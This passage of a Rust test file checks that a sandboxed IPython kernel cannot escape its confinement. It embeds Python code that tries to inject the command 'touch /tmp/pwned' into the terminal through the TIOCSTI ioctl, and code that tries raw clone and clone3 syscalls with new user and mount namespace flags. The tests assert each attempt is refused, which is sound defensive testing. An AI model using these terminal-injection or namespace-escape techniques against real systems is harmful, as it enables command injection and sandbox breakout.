    type_into_the_terminal(&[("IPYTHON_MCP_TEST_DEATH_WATCH", "pipe")]).await;
}

/// Starts a sandboxed server from a terminal and has its kernel (and a process the kernel
/// starts) try to type into it, through `/dev/tty` and through the terminal's own path;
/// checks each try fails and nothing was typed. Returns the server, its kernel's pid and the
/// terminal (whose closing would hang the server up).
async fn type_into_the_terminal(extra_env: &[(&str, &str)]) -> (Server, libc::pid_t, Pty) {
    let pty = Pty::open();
    let home = private_dir("home");
    let workspace = private_dir("workspace");
    let mut env = vec![
        ("IPYTHON_MCP_SANDBOX", "workspace-write"),
        ("HOME", home.path().to_str().expect("utf-8")),
        (
            "IPYTHON_MCP_WORKSPACE_ROOT",
            workspace.path().to_str().expect("utf-8"),
        ),
    ];
    env.extend_from_slice(extra_env);
    let mut command = support::command(&env);
    pty.control(&mut command);
    let server = Server::start_command(Family::Modern, command).await;
    assert_eq!(server.wait_settled().await["state"], "ready");
    // SAFETY: getsid has no memory-safety preconditions.
    let server_session = unsafe { libc::getsid(server.pid as libc::pid_t) };
    assert_eq!(
        server_session, server.pid as libc::pid_t,
        "the server leads its session"
    );
    let attack = format!(
        r#"import errno, fcntl, os, termios
def attack(label, path):
    try:
        fd = os.open(path, os.O_RDWR | os.O_NOCTTY)
    except OSError as e:
        return f'{{label}} open {{errno.errorcode[e.errno]}}'
    try:
        for byte in b'touch /tmp/pwned\n':
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte]))
        return f'{{label}} typed'
    except OSError as e:
        return f'{{label}} ioctl {{errno.errorcode[e.errno]}}'
    finally:
        os.close(fd)
print(attack('tty', '/dev/tty'))
print(attack('pts', {path:?}))
"#,
        path = pty.path
    );
    let expected = "tty open ENXIO\npts ioctl EPERM\n";
    assert_eq!(run(&server, &attack).await, expected);
    // The same from a process the kernel starts.
    let printed = run(
        &server,
        &format!(
            "import subprocess, sys\nprint(subprocess.run([sys.executable, '-c', {attack:?}], capture_output=True, text=True).stdout, end='')"
        ),
    )
    .await;
    assert_eq!(printed, expected);
    assert_eq!(pty.typed(), 0, "the kernel typed into the terminal");
    let list = server.call("kernel_list", json!({})).await;
    let kernel = list.structured["kernels"][0]["pid"].as_i64().expect("pid") as libc::pid_t;
    (server, kernel, pty)
}

/// Kernel code cannot make namespaces with `clone` (refused as `unshare` is) or `clone3`
/// (which the C library then takes as missing), while threads and subprocesses, which use
/// them without namespace flags, work.
#[tokio::test]
async fn kernel_code_cannot_clone_into_new_namespaces() {
    let setup = sandboxed("workspace-write").await;
    let attempt = r#"import ctypes, errno, os, platform, signal, subprocess, threading
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
CLONE_NEWNS, CLONE_NEWUSER = 0x20000, 0x10000000
def report(label, made):
    if made == 0:
        os._exit(0)  # a child in new namespaces: gone at once
    if made > 0:
        os.waitpid(made, 0)
        return f'{label} made'
    return f'{label} {errno.errorcode[ctypes.get_errno()]}'
SYS_clone = {'x86_64': 56, 'aarch64': 220}[platform.machine()]
flags = ctypes.c_ulong(CLONE_NEWUSER | CLONE_NEWNS | signal.SIGCHLD)
print(report('clone', libc.syscall(ctypes.c_long(SYS_clone), flags, None, None, None, None)))
args = (ctypes.c_uint64 * 11)()
args[0] = CLONE_NEWUSER | CLONE_NEWNS
args[4] = signal.SIGCHLD
print(report('clone3', libc.syscall(ctypes.c_long(435), ctypes.byref(args), ctypes.c_size_t(88))))
box = []
thread = threading.Thread(target=lambda: box.append(1))
thread.start()
thread.join()
print('thread', box == [1])
print('subprocess', subprocess.run(['true']).returncode)
"#;
    let printed = run(&setup.server, attempt).await;
    assert_eq!(
        printed,
        "clone EPERM\nclone3 ENOSYS\nthread True\nsubprocess 0\n"
    );
    assert_eq!(run(&setup.server, "print(6 * 7)").await, "42\n");
}
